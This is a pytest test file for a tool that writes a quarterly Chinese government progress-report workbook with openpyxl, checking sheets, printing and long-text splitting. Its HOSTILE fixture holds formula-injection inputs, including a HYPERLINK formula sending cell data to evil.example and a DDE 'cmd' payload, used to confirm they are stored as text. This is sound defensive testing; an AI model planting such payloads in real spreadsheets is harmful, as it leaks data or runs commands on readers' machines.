"""The report workbook, written and read back with openpyxl."""
from __future__ import annotations

import os
import re

import openpyxl
import pytest

from report.sample import make_case, programme
from wcreport.report.consolidate import consolidate
from wcreport.report.safe_cells import CELL_LIMIT
from wcreport.report.workbook import CONT_NEXT, CONT_PREV, SHEETS, report_filename, write_report

QUARTER = "2023Q1"
HOSTILE = {
    ("edu_sports", 1): '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    ("sibaoshan", 1): "+1+cmd|' /C calc'!A0",
    ("baoshan_park", 1): "-2+3",
    ("zhongbu", 1): "@SUM(1,2)",
    ("equipment_park", 1): "\t=1+1",
    ("org_personnel", 2): "\r=1+1",
    ("construction", 2): "开展\x01\x02培训\x07两场\x0b第二行\x1f结束",
}


@pytest.fixture(scope="module")
def prog():
    return programme()


@pytest.fixture(scope="module")
def book(prog, tmp_path_factory):
    results, manifest = make_case(prog, texts=HOSTILE, late=("zhongbu",))
    c = consolidate(prog, QUARTER, results, manifest)
    path = write_report(c, prog, tmp_path_factory.mktemp("report"))
    return c, path, openpyxl.load_workbook(path)


def all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_file_name_from_programme_title(prog, book):
    _, path, _ = book
    assert report_filename(prog, QUARTER) == "2023年第1季度为高新区妇女儿童办实事工作进展情况报表.xlsx"
    assert path.name == report_filename(prog, QUARTER)


def test_sheets_and_title_lines(book):
    c, _, wb = book
    assert wb.sheetnames == list(SHEETS)
    ws = wb["汇总表"]
    assert ws["A1"].value == c.title
    assert ws["A2"].value == "汇总单位：组织人事部群团科"
    assert re.fullmatch(r"填报日期：\d{4}年\d{1,2}月\d{1,2}日", ws["D2"].value)
    assert [ws.cell(3, i).value for i in range(1, 6)] == [
        "序号", "实事名称", "责任单位", "本季度具体措施及任务进度情况", "完成时限"]
    assert "A1:E1" in {str(r) for r in ws.merged_cells.ranges}


def test_summary_has_every_task_and_every_unit_text(book):
    c, _, wb = book
    ws = wb["汇总表"]
    rows = list(ws.iter_rows(min_row=4, values_only=True))
    assert [r[0] for r in rows if r[0] is not None] == list(range(1, 11))
    text = "\n".join(str(r[3]) for r in rows)
    for task in c.tasks:
        for entry in task.entries:
            assert f"【{entry.unit_name}】" in text
    for detail in c.details:
        if "\x01" not in detail.text and "\r" not in detail.text:
            assert detail.text in text
    assert "未报送：市住房公积金管理中心高新区分中心" in text
    assert "报送未通过审核（已退回）：民政和文旅事业中心" in text
    t2 = next(r for r in rows if r[0] == 2)
    assert t2[2].split("\n")[-1] == "各街道、镇、中心" and t2[4] == "2023年12月底"


def test_no_formula_from_unit_text(book):
    _, _, wb = book
    for cell in all_cells(wb):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith("=") or cell.data_type == "s"
    details = wb["明细"]
    by_unit = {(r[3].value, r[1].value): r[4] for r in details.iter_rows(min_row=2)}
    checks = {
        ("教育和体育事业中心", 1): HOSTILE[("edu_sports", 1)],
        ("四宝山街道", 1): HOSTILE[("sibaoshan", 1)],
        ("淄博宝山生态科技园管理服务中心", 1): "-2+3",
        ("中埠镇", 1): "@SUM(1,2)",
        # consolidation strips surrounding whitespace: the tab goes, the "=" stays text
        ("淄博高端装备及现代服务业产业园管理中心", 1): "=1+1",
    }
    for key, expected in checks.items():
        cell = by_unit[key]
        assert cell.value == expected            # kept as written...
        assert cell.data_type == "s"             # ...but as text
        assert cell.quotePrefix is True          # and stays text when edited in Excel/WPS


def test_control_characters_are_dropped_not_the_text(book):
    _, _, wb = book
    texts = [r[4].value for r in wb["明细"].iter_rows(min_row=2) if r[3].value == "建设局" and r[1].value == 2]
    assert texts == ["开展培训两场\n第二行结束"]
    cr = [r[4].value for r in wb["明细"].iter_rows(min_row=2) if r[3].value == "组织人事部" and r[1].value == 2]
    assert cr == ["=1+1"]                         # leading CR stripped as whitespace
    assert wb["明细"].cell(2, 5).data_type == "s"


def test_status_sheet_lists_every_unit(prog, book):
    _, _, wb = book
    ws = wb["报送情况"]
    rows = {r[1]: r for r in ws.iter_rows(min_row=4, max_row=3 + len(prog.units), values_only=True)}
    assert set(rows) == {u.name for u in prog.units}
    assert rows["市住房公积金管理中心高新区分中心"][2] == "未报送"
    assert rows["民政和文旅事业中心"][2] == "已退回" and "未找到" in rows["民政和文旅事业中心"][6]
    assert rows["中埠镇"][3] == "逾期" and rows["中埠镇"][5] == "2023-03-30 10:15"
    assert ws.cell(3, 5).value == "盖章件" and rows["中埠镇"][4]       # printed, for the leaders
    assert rows["中埠镇"][7] == "中埠镇-2023Q1-v1.xlsx"           # machine column, right of the print area
    assert "完成时限格式不规范" in rows["中埠镇"][6]
    assert ws.print_area == f"'报送情况'!$A$1:$G${ws.max_row}"
    assert "已报送12个" in ws["A2"].value


def test_indicator_sheet_and_chart(book):
    c, _, wb = book
    ws = wb["指标进度"]
    breaks = [b.id for b in ws.row_breaks.brk]
    last = breaks[-1]                                              # the table's last row
    rows = [r for r in ws.iter_rows(min_row=4, max_row=last, values_only=True) if r[2] != "指标"]
    assert [r[2] for r in rows] == [i.name for i in c.indicators]
    # a table longer than a page repeats its header at the top of each page itself: print
    # titles would repeat it above the chart too
    assert ws.print_title_rows is None and len(breaks) > 1
    for b in breaks[:-1]:
        assert [ws.cell(b + 1, k).value for k in (1, 3, 10)] == ["序号", "指标", "判断依据"]
    places = next(r for r in rows if r[2] == "拓展学位")
    assert places[4] == 2200 and places[5] == 600 and places[6] == pytest.approx(0.273)
    assert places[7] == "年底判断" and places[8] == "进行中" and places[9].startswith("年底达标")
    assert next(r for r in rows if r[2] == "新建中小学")[8] == "未报数"
    assert ws.cell(4, 7).number_format == "0.0%"
    [chart] = ws._charts
    assert chart.tagname == "barChart" and chart.type == "bar"
    # the chart's data: one range right of the print area (the table's columns hold repeated headers)
    n = len(c.indicators)
    assert chart.series[0].val.numRef.f == f"'指标进度'!$M$4:$M${3 + n}"
    assert chart.series[0].cat.numRef.f == f"'指标进度'!$L$4:$L${3 + n}"
    assert [ws.cell(r, 12).value for r in range(4, 4 + n)] == [i.name for i in c.indicators]
    assert ws.cell(4 + n, 12).value is None and ws.print_area.startswith("'指标进度'!$A$1:$K$")
    # the chart starts a page of its own, right below the table, inside the print area
    assert chart.anchor._from.row == last                          # 0-based: the row after the table
    chart_rows = int(ws.print_area.rsplit("$", 1)[1]) - last
    assert chart_rows * ws.row_dimensions[last + 1].height >= chart.height / 2.54 * 72


def test_details_long_table(book):
    c, _, wb = book
    ws = wb["明细"]
    header = [cell.value for cell in ws[1]]
    assert header[:8] == ["季度", "序号", "实事名称", "单位", "本季度具体措施及任务进度情况", "完成时限",
                          "来源文件", "SHA-256"]
    assert ws.max_row == 1 + len(c.details)
    assert ws.auto_filter.ref.startswith("A1:J")
    first = [cell.value for cell in ws[2]]
    assert first[0] == "2023Q1" and first[1] == 1 and first[7] == c.details[0].sha256


def test_print_ready(book):
    _, _, wb = book
    for name in SHEETS:
        ws = wb[name]
        assert ws.page_setup.orientation == "landscape", name
        assert ws.page_setup.paperSize == 9, name                    # A4
        assert not ws.sheet_properties.pageSetUpPr.fitToPage, name  # an explicit scale: known page height
        assert 50 <= int(ws.page_setup.scale) <= 100, name
        header_row = 1 if name == "明细" else 3
        if name not in ("明细", "指标进度"):       # 指标进度 repeats its header itself (above)
            assert ws.print_title_rows == f"${header_row}:${header_row}", name
        assert ws.freeze_panes == f"A{header_row + 1}", name
        header = ws.cell(header_row, 1)
        assert header.font.name == "宋体" and header.font.b, name
        assert "&P" in ws.oddFooter.center.text
    text_cell = wb["汇总表"]["D4"]
    assert text_cell.alignment.wrap_text is True and text_cell.font.name == "宋体"
    assert wb["汇总表"].row_dimensions[4].height >= 30
    assert wb["明细"].print_area == "'明细'!$L$1"                  # in the file, never printed


def test_text_beyond_the_cell_limit_is_split_visibly_and_kept_whole(prog, tmp_path):
    long_text = "".join(f"第{i}句：完成入户走访并登记台账。\n" for i in range(2600))   # ~50,000 chars
    assert len(long_text) > CELL_LIMIT
    results, manifest = make_case(prog, texts={("health", 4): long_text})
    c = consolidate(prog, QUARTER, results, manifest)
    wb = openpyxl.load_workbook(write_report(c, prog, tmp_path))
    for cell in all_cells(wb):
        if isinstance(cell.value, str):
            assert len(cell.value) <= CELL_LIMIT
    # 明细: continuation rows numbered in 分段, concatenation gives the text back
    parts = [r for r in wb["明细"].iter_rows(min_row=2, values_only=True)
             if r[3] == "卫生健康事业中心" and r[1] == 4]
    assert [p[9] for p in parts] == [f"{k}/{len(parts)}" for k in range(1, len(parts) + 1)]
    assert len(parts) == 2
    assert "".join(p[4] for p in parts) == long_text.strip()
    # 汇总表: the task continues over several rows and pages with markers, nothing lost;
    # each page's part repeats 序号 and 实事名称 (marked （续）)
    ws = wb["汇总表"]
    block = [r for r in ws.iter_rows(min_row=4, values_only=True)]
    start = next(i for i, r in enumerate(block) if r[0] == 4)
    end = next(i for i, r in enumerate(block) if r[0] == 5)
    cells = [r[3] for r in block[start:end] if r[3]]
    assert len(cells) > 2
    assert all(c.endswith(CONT_NEXT) for c in cells[:-1] if "第2599句" not in c)
    joined = "".join(c.removesuffix(CONT_NEXT).removeprefix(CONT_PREV) for c in cells)
    # a row boundary stands for the line break it replaced
    assert long_text.strip().replace("\n", "") in joined.replace("\n", "")
    task = prog.tasks_by_seq[4].name
    parts = [(4 + start + i, r[1]) for i, r in enumerate(block[start:end]) if r[0] == 4]
    assert parts[0][1] == task and len(parts) > 3
    assert all(name == f"{task}（续）" for _, name in parts[1:])
    breaks = {b.id for b in ws.row_breaks.brk}
    assert all(row - 1 in breaks for row, _ in parts[1:])          # every part starts a page
    merged = {str(r) for r in ws.merged_cells.ranges}
    bounds = [row for row, _ in parts] + [4 + end]
    for first, nxt in zip(bounds, bounds[1:]):
        if nxt - first > 1:
            assert f"A{first}:A{nxt - 1}" in merged
    for r in range(4 + start, 4 + end):
        assert ws.row_dimensions[r].height <= 409


def test_written_atomically_into_a_folder(prog, tmp_path):
    c = consolidate(prog, QUARTER, *make_case(prog))
    path = write_report(c, prog, tmp_path)
    assert path.parent == tmp_path and path.name == report_filename(prog, QUARTER)
    assert [p.name for p in tmp_path.iterdir()] == [path.name]       # no temp file left behind


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640)])
def test_the_workbook_gets_the_project_file_mode_not_the_temp_files(prog, tmp_path, umask, mode):
    """Like every other output (core.io.file_mode): readable by the group that mails and archives it."""
    c = consolidate(prog, QUARTER, *make_case(prog))
    old = os.umask(umask)
    try:
        path = write_report(c, prog, tmp_path)
    finally:
        os.umask(old)
    assert oct(path.stat().st_mode & 0o777) == oct(mode)


def test_a_quarter_with_nothing_submitted_still_makes_a_report(prog, tmp_path):
    everyone = tuple(u.key for u in prog.units)
    c = consolidate(prog, QUARTER, *make_case(prog, missing=everyone, rejected={}))
    assert c.submitted_units == 0 and c.details == []
    assert all(i.status == "no_data" for i in c.indicators)
    wb = openpyxl.load_workbook(write_report(c, prog, tmp_path))
    d4 = wb["汇总表"]["D4"].value
    assert d4.startswith("（未报送：教育和体育事业中心")
    assert wb["明细"].max_row == 1
    assert "已报送0个" in wb["报送情况"]["A2"].value


def test_line_breaks_inside_a_units_text_are_kept_in_the_summary(prog, tmp_path):
    text = "第一行：召开推进会。\n第二行：完成摸底。\n第三行：下一步计划。"
    c = consolidate(prog, QUARTER, *make_case(prog, texts={("edu_sports", 1): text}))
    ws = openpyxl.load_workbook(write_report(c, prog, tmp_path))["汇总表"]
    assert f"【教育和体育事业中心】{text}" in ws["D4"].value


def test_deadline_column_fits_every_unit_name_on_one_line(prog, tmp_path):
    from wcreport.report.measure import line_count

    styles = ["2023年12月底", "2023.12", "年底前", "长期坚持"]
    results, manifest = make_case(prog)
    for k, result in enumerate(results):
        for row in result.rows:
            row.deadline = styles[k % len(styles)]                 # units disagree: one line per unit
    c = consolidate(prog, QUARTER, results, manifest)
    ws = openpyxl.load_workbook(write_report(c, prog, tmp_path))["汇总表"]
    width = ws.column_dimensions["E"].width
    lines = [line for row in ws.iter_rows(min_row=4, min_col=5, max_col=5, values_only=True) if row[0]
             for line in row[0].split("\n")]
    names = [line.split("：")[0] for line in lines if "：" in line]
    assert "淄博高端装备及现代服务业产业园管理中心" in names
    assert all(line_count(f"{name}：", width) == 1 for name in names)
